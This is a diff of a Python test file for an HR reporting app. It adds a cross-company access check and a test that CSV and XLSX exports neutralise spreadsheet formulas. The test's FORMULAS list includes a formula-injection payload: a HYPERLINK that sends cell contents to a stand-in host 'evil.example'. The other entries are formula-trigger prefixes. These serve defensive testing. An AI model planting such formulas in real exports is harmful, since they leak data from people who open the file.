@@ -434,6 +434,9 @@ async def test_hr_of_one_company_gets_404_on_another_companys_reports_and_export
                  {"wave_id": str(world.wave), "kind": "territory"}):
         assert (await api_post(client, "/api/v1/reports", body)).status_code == 404
     assert (await client.get(f"/api/v1/reports/waves/{world.wave}")).json() == []
+    outsider = await make_org(name="Cascina Esterna")
+    await sign_in(client, await make_user("hr@esterna.example", outsider, "hr_manager"))
+    assert (await client.get(f"/api/v1/reports/waves/{world.wave}")).status_code == 404
     employee = await make_user("worker@rossi.example", world.a, "employee")
     await sign_in(client, employee)
     assert (await client.get(f"/reports/waves/{world.wave}")).status_code == 404
@@ -445,3 +448,23 @@ def test_csv_is_excel_friendly() -> None:
     assert exports.to_csv(table, ";").decode("utf-8-sig").splitlines() == [
         "Gruppo;Quota", "Città;42,5", "Più;meno di 5"]
     assert exports.to_csv(table).decode("utf-8-sig").splitlines()[1] == "Città,42.5"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Rossi")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+def test_exports_neutralise_formulas_and_keep_text_as_text() -> None:
+    table = exports.ExportTable("rates", "=Tasso", ["=Gruppo", "Quota"],
+                                [[name, exports.Percent(0.5)] for name in FORMULAS]
+                                + [["-", -3]])
+    rows = csv_rows(exports.to_csv(table))
+    assert rows[0] == ["'=Gruppo", "Quota"]
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in FORMULAS] + ["'-"]
+    assert rows[-1][1] == "-3"  # a number stays a number
+    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx([table]))) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        strings = book.read("xl/sharedStrings.xml").decode()
+    assert "<f>" not in sheet and "HYPERLINK" not in sheet
+    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
+    assert '<c r="B8"><v>-3</v></c>' in sheet or '<c r="B8" t="n"><v>-3</v></c>' in sheet
